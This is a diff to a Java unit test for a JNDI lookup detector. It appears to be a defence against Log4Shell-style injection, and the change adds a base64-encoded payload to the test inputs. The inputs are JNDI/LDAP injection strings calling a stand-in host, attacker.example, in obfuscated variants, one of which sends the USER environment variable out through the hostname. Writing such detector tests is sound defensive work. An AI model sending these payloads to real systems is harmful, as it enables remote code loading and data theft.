@@ -59,7 +59,8 @@ class JndiDetectorTest {
                 "$&LCUB;jndi:ldap://attacker.example/a}",
                 "${\\u006a\\u006e\\u0064\\u0069:ldap://attacker.example/a}",
                 "{\"ua\": \"${jndi:ldap://${env:USER}.attacker.example/a}\"}",
-                "${jndi:ldap://attacker.example/a"
+                "${jndi:ldap://attacker.example/a",
+                "${base64:JHtqbmRpOmxkYXA6Ly9hdHRhY2tlci5leGFtcGxlL2F9}"
             })
     void jndi_lookups(String value) {
         assertThat(rule(value)).isEqualTo(JndiDetector.JNDI);
